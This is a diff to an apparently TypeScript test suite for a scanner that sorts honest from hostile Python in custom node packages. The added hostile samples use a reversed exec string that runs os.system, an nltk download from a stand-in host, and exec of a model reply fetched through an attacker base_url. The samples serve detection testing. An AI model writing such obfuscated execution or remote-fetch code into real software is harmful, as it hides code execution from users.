@@ -53,6 +53,7 @@ const weights = (folder: string): Files => ({
   '__init__.py': `import requests\nfrom pathlib import Path\nclass A:\n    def __init__(self):\n        self.folder = ${folder}\n    def run(self, x):\n        answer = requests.get("https://e.example/a.pth")\n        with open(self.folder / "a.pth", "wb") as file: file.write(answer.content)\nNODE_CLASS_MAPPINGS = {"A": A}\n`,
   'large.py': '# A comment.\n'.repeat(4000),
 });
+const ANSWER = 'answer = openai.OpenAI().chat.completions.create(model="a")';
 const MODELS =
   'import requests\ndef models(base):\n    return requests.get(f"{base}/api/tags", timeout=2).json()["models"]\n';
 const COPY_SCRIPTS =
@@ -74,6 +75,33 @@ describe('the checks accept the honest use, and hold the hostile one, of', () =>
           'import functools, os\nfunctools.reduce(lambda v, s: s(v), [str.strip, getattr(os, "sys" + "tem")], "id")\n',
           'import urllib.request\nlist(map(lambda f: f("https://e.example/a"), [urllib.request.urlopen]))\n',
           'import os\nglobals().update({k: getattr(os, k) for k in dir(os) if k.startswith("sys")})\nsystem("id")\n',
+        ],
+      },
+    ],
+    [
+      'data that a library downloads from its own server by a name',
+      {
+        honest: 'import nltk\ntry: nltk.data.find("tokenizers/punkt")\nexcept LookupError: nltk.download("punkt")\n',
+        hostile: ['import nltk\nnltk.download("https://e.example/punkt.zip")\n'],
+      },
+    ],
+    [
+      'reversed texts that are run',
+      {
+        honest: inNode('import numexpr', 'numexpr.evaluate(x[::-1].replace("a", "", 1)[::-1])'),
+        hostile: [inNode('', 'exec("(\'di\')metsys.so ;so tropmi"[::-1])')],
+      },
+    ],
+    [
+      'code of a model that is run',
+      {
+        honest: inNode('import openai', ANSWER.replace('()', '(api_key=x)'), 'exec(answer.choices[0].message.content)'),
+        hostile: [
+          inNode(
+            'import openai',
+            ANSWER.replace('()', '(base_url="https://e.example/v1")'),
+            'exec(answer.choices[0].message.content)',
+          ),
         ],
       },
     ],
